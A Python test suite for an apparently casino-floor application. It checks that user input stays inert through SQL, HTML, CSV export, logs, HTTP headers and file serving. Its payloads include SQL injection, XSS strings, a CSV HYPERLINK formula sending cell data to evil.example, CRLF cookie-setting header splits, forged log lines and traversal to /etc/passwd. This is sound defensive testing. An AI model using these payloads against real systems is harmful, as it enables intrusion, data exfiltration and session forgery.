"""What somebody types stays what it is: in the records, in a sheet, in a log line, in a header and on the disk."""

import csv
import io
import json
import logging
from pathlib import Path
from urllib.parse import unquote

import pytest
import structlog
from msgspec import Struct

from natural9.server.reports.sheets import as_csv
from natural9.store.contract import Access
from natural9.store.opening import open_store
from tests.logs import logged
from tests.security.floor import Floor, empty_floor, together
from tests.server.people.house import PASSWORD

NASTY = (
    "Robert'); DROP TABLE entries;--",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}} ${7*7} %s %(x)s",
    "=HYPERLINK(0)",
    "\\..\\..\\venue.key",
    "..%2f..%2fvenue.key",
)


async def test_names_and_reasons_come_back_as_they_were_written(tmp_path: Path) -> None:
    """Through HTTP into a journal on disk and out of it again, whatever SQL or HTML would make of it."""
    store = open_store(tmp_path, Access.WRITE)
    async with empty_floor(tmp_path, store) as floor:
        claim = floor.house.accounts.first_code() or ""
        ada = await floor.house.accounts.claim_administrator(claim, id="ada", name="Ada", password=PASSWORD, peer="")
        floor.knows("ada", ada.session)
        floor.knows("sam", await floor.hire("sam", "shift-manager"))
        for number, nasty in enumerate(NASTY):
            body = {"id": f"one-{number}", "name": nasty, "role": "dealer"}
            assert (await floor.ask("ada", "POST", "/api/staff/", body)).status == 201
            assert (await floor.ask("sam", "POST", "/api/players/", {"name": nasty})).status == 201
        people = (await floor.ask("ada", "GET", "/api/staff/")).json
        assert {one["name"] for one in people} >= set(NASTY)
        for nasty in NASTY[:3]:
            lock = {"request": f"lock {nasty}"[:64], "command": {"type": "lock-terminal", "seat": 1}, "why": nasty}
            unlock = {"request": f"open {nasty}"[:64], "command": {"type": "unlock-terminal", "seat": 1}}
            assert (await floor.ask("sam", "POST", "/api/tables/a/commands", lock)).words == "200"
            [line] = [
                one for one in (await floor.ask("sam", "GET", "/api/tables/a/terminals")).json if one["seat"] == 1
            ]
            assert line["locked"] == nasty
            assert (await floor.ask("sam", "POST", "/api/tables/a/commands", unlock)).words == "200"
            found = await floor.ask("sam", "GET", f"/api/players/?search={nasty[:6].replace('%', '%25')}")
            assert found.status == 200
        for field in ("table", "seat", "device", "voucher", "least", "most", "result", "person", "since", "until"):
            answer = await floor.ask("sam", "GET", f"/api/search/?{field}=%27%20OR%201%3D1%20--")
            assert answer.status == 400 or answer.json["rows"] == [], (field, answer.body)
        assert await store.check_indexes() > 0, "and the records are whole"


class Typed(Struct):
    name: str
    cents: int


@pytest.mark.parametrize(
    "begins", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u200b="]
)
def test_no_cell_of_a_sheet_is_a_formula(begins: str) -> None:
    typed = f'{begins}HYPERLINK("http://evil.example/?"&A1,"x")'
    [_, [name, cents]] = csv.reader(io.StringIO(as_csv(Typed, [Typed(typed, -5)]), newline=""))
    assert name == f"'{typed}"
    assert cents == "-5", "a number stays one"


@pytest.mark.parametrize("as_json", [True, False])
def test_one_message_is_one_line_of_the_log(as_json: bool) -> None:
    forged = "10.0.0.7\n2026-11-18 [info     ] an administrator signed in\x1b[2J\r\u2028\x00"
    with logged(as_json=as_json) as stream:
        structlog.get_logger().warning("request failed", path=forged)
        structlog.get_logger().warning(forged)
        logging.getLogger("natural9").warning("a connection of %s failed", forged)
    lines = stream.getvalue().split("\n")
    assert len(lines) == 4, lines
    assert not any(sign in stream.getvalue() for sign in ("\x1b[2J", "\r", "\u2028", "\x00"))
    assert not as_json or all(json.loads(line) for line in lines[:3])


@together
async def test_nothing_that_is_asked_for_becomes_a_header(floor: Floor) -> None:
    split = "a%22%0d%0aset-cookie:%20natural9-staff=x%0d%0a"
    for path in (
        f"/api/receipt/?entry=1&table={split}",
        f"/api/rounds/{split}/1/export",
        f"/api/rounds/{split}/1/dispute.pdf",
        f"/api/checkpoint/1{split}/time-stamp",
        f"/api/reports/win?format={split}",
        f"/assets/{split}",
        f"/console/{split}",
    ):
        where, mark, query = path.partition("?")
        answer = await floor.ask("shift-manager", "GET", unquote(where) + mark + query)  # as the server hands it on
        for name, value in answer.headers:
            assert "\r" not in value, path
            assert "\n" not in value, path
            assert name != "set-cookie", path


@together
async def test_no_path_leads_out_of_what_is_served(floor: Floor) -> None:
    for start in ("/assets/", "/console/", "/api/rounds/a/", "/api/receipt/", "/api/reports/", "/"):
        for way in ("../venue.key", "../../venue.key", "..\\venue.key", "/etc/passwd", "%2e%2e/venue.key", "x\x00.js"):
            answer = await floor.ask("administrator", "GET", start + way)
            assert answer.status in (200, 400, 401, 403, 404, 405), (start, way)
            is_page = answer.header("content-type").startswith("text/html")
            assert answer.status != 200 or is_page, "a screen's own addresses are one page"
    secret = (floor.house.folder / "venue.key").read_bytes()
    assert secret not in (await floor.ask("administrator", "GET", "/assets/..%2f..%2fvenue.key")).body


def test_the_screens_make_no_html_of_what_they_are_told() -> None:
    """Svelte escapes what it shows; these are the ways around it."""
    web = Path(__file__).parents[2] / "web" / "src"
    sources = [path for path in web.rglob("*") if path.suffix in (".svelte", ".ts") and ".test." not in path.name]
    assert len(sources) > 100
    ways = ("{@html", "innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function(")
    assert [(path.name, way) for path in sources for way in ways if way in path.read_text()] == []
